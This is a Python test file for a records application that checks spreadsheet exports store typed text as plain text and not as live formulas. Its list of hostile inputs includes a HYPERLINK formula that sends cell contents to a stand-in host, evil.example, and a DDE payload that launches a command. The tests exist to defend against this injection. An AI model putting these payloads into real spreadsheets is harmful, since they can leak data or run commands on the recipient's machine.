"""Spreadsheets out are inert: text a person typed is written as text, never as a formula.

Before `dangjian.core.workbooks`, three exports (meetings ledger, dues report, statistics) used
xlsxwriter's defaults, so a meeting topic typed as `=HYPERLINK(...)` became a live formula.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

from dangjian.activities import ledger
from dangjian.activities import services as activity_services
from dangjian.core.dates import today
from dangjian.core.workbooks import new_workbook

REPO = Path(__file__).resolve().parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "http://evil.example/",
    "0123",
]


def _sheets(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        )


def _strings(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        return (
            archive.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in names else ""
        )


def test_no_module_makes_a_workbook_but_the_inert_one() -> None:
    """Every xlsx writer goes through core.workbooks.new_workbook (a scan of the sources)."""
    offenders = [
        str(path.relative_to(REPO))
        for path in (REPO / "dangjian").rglob("*.py")
        if "/tests/" not in str(path)
        and path.name != "workbooks.py"
        and re.search(r"xlsxwriter\.Workbook\(|from xlsxwriter import", path.read_text())
    ]
    assert offenders == []


def test_the_inert_workbook_writes_hostile_text_as_text() -> None:
    buffer = io.BytesIO()
    book = new_workbook(buffer, in_memory=True, strings_to_formulas=True)  # cannot re-enable
    sheet = book.add_worksheet()
    for row, text in enumerate(HOSTILE):
        sheet.write(row, 0, text)
    book.close()
    xml = _sheets(buffer.getvalue())
    assert "<f>" not in xml
    assert "hyperlink" not in xml.lower()
    assert 't="n"' not in xml  # "0123" stays a string
    assert "<v>123</v>" not in xml
    assert xml.count('t="s"') == len(HOSTILE)


def test_the_meetings_ledger_keeps_a_formula_topic_as_text(county: Any) -> None:
    meeting = activity_services.activity_create(
        actor=county.county_admin,
        organization=county.east_village,
        data={"kind": "GENERAL_MEETING", "topic": HOSTILE[0], "on": today() - dt.timedelta(days=1)},
    )
    activity_services.activity_record(actor=county.east_secretary, activity=meeting)
    data = ledger.ledger_xlsx(county.east, meeting.on.year)
    assert "<f>" not in _sheets(data)
    assert "HYPERLINK" in _strings(data)
